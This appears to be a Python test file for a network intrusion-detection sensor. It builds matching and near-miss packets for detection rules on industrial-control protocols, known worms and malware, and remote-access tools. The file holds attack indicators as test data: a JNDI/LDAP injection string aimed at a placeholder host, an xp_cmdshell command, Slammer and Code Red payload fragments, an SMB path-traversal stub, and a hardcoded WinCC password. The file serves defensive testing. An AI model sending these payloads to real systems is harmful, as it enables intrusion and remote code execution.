"""Cases of the packs opc_classic, malware, worms and remote_access."""

from __future__ import annotations

import struct
from uuid import UUID

from sensor.demo.s7comm import request_download
from tests.detectors.signature.harness import talk
from tests.make import CLIENT, SERVER
from tests.protocols.s7comm.build import address, job
from tests.rules.cases import OUTSIDE, Case, Said, datagrams, over, speech

smb, rdp, sql = over(speech, 445), over(speech, 3389), over(speech, 1433)
name_server = over(datagrams, 53)


def rpc(interface: str, *, kind: int = 11) -> bytes:
    """C706, 12.6.4.3: a bind (or another PDU of that kind) to this interface."""
    body = struct.pack("<HHIBxxx", 4280, 4280, 0, 1) + struct.pack("<HBx", 0, 1) + UUID(interface).bytes_le + struct.pack("<I", 0) + bytes(20)
    return struct.pack("<BBBBIHHI", 5, 0, kind, 3, 0x10, 16 + len(body), 0, 1) + body


def query(name: str) -> bytes:
    """RFC 1035, 4.1."""
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes((len(part),)) + part.encode() for part in name.split(".")) + b"\0\0\1\0\1"


def asked(name: str) -> Case:
    """A name, and one that ends alike."""
    first, _, rest = name.partition(".")
    return name_server(query(f"www.{name}" if name.count(".") == 1 else name), query(f"{first}x.{rest}"))


def message(content: bytes) -> bytes:
    """SMB over TCP: a session message."""
    return len(content).to_bytes(4) + content


def smb1(command: int, *, status: int = 0, multiplex: int = 64, content: bytes = b"") -> bytes:
    """MS-CIFS 2.2.3.1."""
    return message(b"\xffSMB" + struct.pack("<BIBHH8xHHHHH", command, status, 0x18, 0xC807, 0, 0, 0x800, 0xFEFF, 0x800, multiplex) + content)


def smb2(command: int, content: bytes) -> bytes:
    """MS-SMB2 2.2.1.2."""
    return message(b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16x", 64, 0, 0, command, 1, 0, 0, 1, 0, 0, 0) + content)


def created(name: str) -> bytes:
    """A file that is opened or created."""
    return smb2(5, bytes(56) + wide(name))


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def trans2(subcommand: int) -> bytes:
    """MS-CIFS 2.2.4.46.1: fourteen words before the setup word."""
    return smb1(0x32, content=b"\x0f" + bytes(26) + b"\x01\x00" + struct.pack("<H", subcommand) + bytes(8))


def overflow(operation: int) -> bytes:
    """NetPathCanonicalize with a path that goes up, in a transaction over a pipe."""
    stub = bytes(16) + wide("\\a\\..\\..\\b")
    request = struct.pack("<BBBBIHHIIHH", 5, 0, 0, 3, 0x10, 24 + len(stub), 0, 1, len(stub), 0, operation) + stub
    return smb1(0x25, content=bytes(32) + request)


def login(user: str, password: bytes = b"") -> bytes:
    """MS-TDS 2.2.6.4: LOGIN7."""
    body = bytes(94) + wide("HMI1") + wide(user) + password
    return struct.pack(">BBHHBB", 0x10, 1, 8 + len(body), 0, 1, 0) + body


def hidden(password: str) -> bytes:
    """MS-TDS 2.2.6.4: halves of each byte swapped, then XOR 0xA5."""
    return bytes(((byte << 4 | byte >> 4) & 0xFF) ^ 0xA5 for byte in wide(password))


def batch(text: str) -> bytes:
    return struct.pack(">BBHHBB", 1, 1, 8 + 2 * len(text), 0, 1, 0) + wide(text)


def post(target: str, body: str = "", *, method: str = "POST", headers: str = "") -> bytes:
    return f"{method} {target} HTTP/1.1\r\nHost: a\r\n{headers}\r\n{body}".encode()


def desktop(*, protocols: int = 11, reference: int = 0) -> bytes:
    """MS-RDPBCGR 2.2.1.1: connection request."""
    body = struct.pack(">BHHB", 0xE0, 0, reference, 0) + b"Cookie: mstshash=user\r\n" + struct.pack("<BBHI", 1, 0, 8, protocols)
    return struct.pack(">BBHB", 3, 0, 5 + len(body), len(body)) + body


def channels(*names: bytes) -> bytes:
    """MS-RDPBCGR 2.2.1.3.4: the channels asked for."""
    body = (
        b"\x02\xf0\x80\x7f\x65"
        + bytes(20)
        + b"\x03\xc0"
        + struct.pack("<HI", 8 + 12 * len(names), len(names))
        + b"".join(name.ljust(8, b"\0") + bytes(4) for name in names)
    )
    return struct.pack(">BBH", 3, 0, 4 + len(body)) + body


def hello(server: str) -> bytes:
    """RFC 8446: what matters of a ClientHello."""
    name = server.encode()
    return b"\x16\x03\x01\x00\x80\x01\x00\x00\x7c\x03\x03" + bytes(40) + b"\x00\x00" + struct.pack(">HHBH", len(name) + 5, len(name) + 3, 0, len(name)) + name


def snmp(community: bytes, kind: int) -> bytes:
    """RFC 3416: a request of this kind."""
    pdu = bytes((kind, 19)) + bytes.fromhex("020101 020100 020100 3008 3006 06022b06 0500") + bytes(3)
    body = b"\x02\x01\x01\x04" + bytes((len(community),)) + community + pdu
    return b"\x30" + bytes((len(body),)) + body


def banner(version: str) -> list[Said]:
    return [(1, f"RFB {version}\n".encode())]


def speech_from(port: int, said: bytes) -> list[bytes]:
    """One of many connections."""
    return talk((0, said), ends=((CLIENT, port), (SERVER, 3389)))


BROWSE, SERVER_LIST = "39C13A4F-011E-11D0-9675-0020AFD8ADB3", "13486D50-4821-11D2-A494-3CB306C10000"
OPC_SERVER, OPC_SYNC = "39C13A4D-011E-11D0-9675-0020AFD8ADB3", "39C13A52-011E-11D0-9675-0020AFD8ADB3"
SERVICES, TASKS, EVENT_LOG = "367abb81-9844-35f1-ad32-98f038001003", "86d35949-83c9-4044-b424-db363231fd0c", "82273fdc-e32a-18c3-3f78-827929dc23ea"
dcom = over(speech, 49152)
SLAMMER = b"\x04" + b"\x01" * 96 + bytes.fromhex("81f10301049b81f101") + b"sockfQsend"
SIPROTEC = bytes.fromhex("1149") + bytes(14) + bytes.fromhex("289e")
WDB = struct.pack(">IIIIII", 9, 0, 2, 0x55555555, 1, 1)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

CASES: dict[int, Case] = {
    9021001: dcom(rpc(SERVER_LIST), rpc(OPC_SYNC)),
    9021002: dcom(rpc("9DD0B56C-AD9E-43EE-8305-487F3188BF7A"), rpc(OPC_SYNC)),
    9021003: dcom(rpc(BROWSE), rpc(OPC_SYNC)),
    9021004: dcom(rpc(OPC_SERVER), rpc(OPC_SERVER), client=OUTSIDE),
    9022001: over(datagrams, 50000)(SIPROTEC, SIPROTEC[:-1] + b"\x9f"),
    9022002: over(speech, 102)(request_download(1, "0A00890", 100, 40)[0], request_download(1, "0A00891", 100, 40)[0], 9000005),
    9022003: over(speech, 102)(job(1, b"\x04\x01" + address(2, 1, 890, 0x84, 0)), job(1, b"\x04\x01" + address(2, 1, 89, 0x84, 0))),
    9022004: asked("mypremierfutbol.com"),
    9022005: asked("todaysfutbol.com"),
    9022006: dcom(rpc("000204e1-0000-0000-c000-000000000046"), rpc("000204e2-0000-0000-c000-000000000046")),
    9022007: sql(login("WinCCConnect"), login("WinCCReader")),
    9022008: sql(login("sa", hidden("2WSXcder")), login("sa", hidden("2WSXcdeq"))),
    9022009: over(speech, 80)(
        post("/blog/x.php?id=1234567890ABCDEF-1&v1=038&v2=170393861&q=5265882854508EFCF958F979E4", method="POST"),
        post("/blog/x.php?id=12&v1=038&v2=170393861&p=5265"),
    ),
    9022010: over(speech, 80)(post("/l/x.php", "id=HOST_1&bid=YWJj&nm=1&cn=2&num=3"), post("/l/x.php", "id=HOST_1&bid=YWJj&nm=1&cn=2")),
    9022011: asked("toknowall.com"),
    9022012: name_server(query("uuokhhfsdlk.tylarion867mino.com"), query("uuokhhfsdlk.tylarion.com")),
    9022013: Case(datagrams(27127, b"\x00\x01", server="255.255.255.255"), datagrams(27127, b"\x00\x01")),
    9022014: sql(batch("exec xp_cmdshell 'dir'"), batch("select 1")),
    9022015: over(datagrams, 17185)(WDB, WDB[:12] + b"UUUT" + WDB[16:]),
    9022016: over(speech, 21)(EICAR, EICAR[:-1] + b"?"),
    9023001: smb(trans2(0x0E), trans2(0x05)),
    9023002: smb(bytes.fromhex("0000fff7fe534d42") + bytes(120), bytes.fromhex("00000078fe534d42") + bytes(120)),
    9023003: smb([smb1(0x72), (1, smb1(0x32, status=0xC0000002, multiplex=0x51))], [smb1(0x72), (1, smb1(0x32, status=0xC0000002, multiplex=0x41))]),
    9023004: smb([smb1(0x72), (1, smb1(0x25, status=0xC0000205))], [smb1(0x72), (1, smb1(0x25, status=0xC0000008))]),
    9023005: asked("iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"),
    9023006: asked("ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com"),
    9023007: smb(smb1(0x75, content=wide("\\\\192.168.56.20\\IPC$")), smb1(0x75, content=wide("\\\\192.168.56.21\\IPC$"))),
    9023008: smb(smb1(0x75, content=wide("\\\\172.16.99.5\\IPC$")), smb1(0x75, content=wide("\\\\172.16.99.6\\IPC$"))),
    9023009: smb(created("plan.doc.WNCRY"), created("plan.doc")),
    9023010: smb(created("perfc.dat"), created("perf.dat")),
    9023011: smb(created("infpub.dat"), created("pub.dat")),
    9023012: smb(created("cscc.dat"), created("csc.dat")),
    9023013: smb(overflow(31), overflow(32)),
    9023014: over(datagrams, 1434)(SLAMMER, b"\x02" + SLAMMER[1:]),
    9023015: over(speech, 80)(post("/default.ida?" + "N" * 224 + "%u9090", method="GET"), post("/default.ida?NN", method="GET")),
    9023016: rdp(channels(b"rdpdr", b"MS_T120"), channels(b"rdpdr", b"cliprdr")),
    9023017: smb(message(b"\xfcSMB" + b"\xff" * 4 + bytes(8)), message(b"\xfcSMB" + b"\x00\x10\x00\x00" + bytes(8))),
    9023018: over(speech, 8080)(post("/", method="GET", headers="X: ${jndi:ldap://a/b}\r\n"), post("/", method="GET", headers="X: ${date:}\r\n")),
    9023019: over(speech, 23)(b"/bin/busybox MIRAI\r\n", b"/bin/busybox ps\r\n"),
    9023020: over(speech, 3333)(b'{"id":1,"method":"mining.subscribe","params":[]}\n', b'{"id":1,"method":"subscribe","params":[]}\n'),
    9023021: over(speech, 3333)(
        b'{"id":1,"method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21"}}\n',
        b'{"id":1,"method":"login","params":{"login":"x","agent":"HMI/1"}}\n',
    ),
    9024001: over(speech, 5938)(b"\x17\x24\x0a\x20" + bytes(32), b"\x17\x25\x0a\x20" + bytes(32)),
    9024002: name_server(query("router1.teamviewer.com"), query("myteamviewer.com")),
    9024003: over(speech, 443)(hello("relay-a1.net.anydesk.com"), hello("anydesk.example")),
    9024004: name_server(query("boot.anydesk.com"), query("myanydesk.com")),
    9024005: over(datagrams, 50001)(b"\x3e\xd1\x01" + bytes(9), b"\x3e\xd2\x01" + bytes(9)),
    9024006: over(speech, 5900)(banner("003.008"), [(1, b"RFC 003.008\n")]),
    9024007: over(speech, 5900)(b"RFB 003.008\n", b"RFB 003.008\n", client=OUTSIDE),
    9024008: rdp(desktop(), desktop(reference=5)),
    9024009: rdp(desktop(), desktop(), 9024008, client=OUTSIDE),
    9024010: rdp(desktop(protocols=0), desktop(protocols=3), 9024008),
    9024011: Case(
        [frame for i in range(20) for frame in speech_from(41_000 + i, desktop())],
        [frame for i in range(19) for frame in speech_from(41_000 + i, desktop())],
        frozenset({9024008}),
    ),
    9024012: over(speech, 4899)(bytes.fromhex("01000000010000000808"), bytes.fromhex("01000000010000000908")),
    9024013: over(speech, 5405)(
        post("/testpage.htm", headers="User-Agent: NetSupport Manager/1.3\r\n"), post("/testpage.htm", headers="User-Agent: Manager/1.3\r\n")
    ),
    9024014: asked("logmein.com"),
    9024015: asked("splashtop.com"),
    9024016: asked("screenconnect.com"),
    9024017: asked("rustdesk.com"),
    9024018: asked("ngrok.io"),
    9024019: smb(created("PSEXESVC.exe"), created("SVC.exe")),
    9024020: smb(smb2(9, bytes(48) + rpc(SERVICES)), smb2(9, bytes(48) + rpc(EVENT_LOG))),
    9024021: smb(smb2(9, bytes(48) + rpc(TASKS)), smb2(9, bytes(48) + rpc(EVENT_LOG))),
    9024022: over(speech, 5985)(post("/wsman"), post("/wsx")),
    9024023: over(speech, 22)(b"SSH-2.0-OpenSSH_9.6\r\n", b"SSH-2.0-OpenSSH_9.6\r\n", client=OUTSIDE),
    9024024: smb(smb2(0, bytes(36)), smb2(0, bytes(36)), client=OUTSIDE),
    9024025: over(datagrams, 69)(b"\0\2image.bin\0octet\0", b"\0\1image.bin\0octet\0"),
    9024026: over(datagrams, 161)(snmp(b"plant", 0xA3), snmp(b"plant", 0xA0)),
    9024027: over(datagrams, 161)(snmp(b"private", 0xA0), snmp(b"privata", 0xA0)),
    9024028: over(speech, 5000)(
        post("/ctl/IPConn", headers='SOAPAction: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"\r\n'),
        post("/ctl/IPConn", headers='SOAPAction: "urn:schemas-upnp-org:service:WANIPConnection:1#GetExternalIPAddress"\r\n'),
    ),
    9024029: over(speech, 1080)(b"\5\1\0", b"\5\2\0\2"),
}
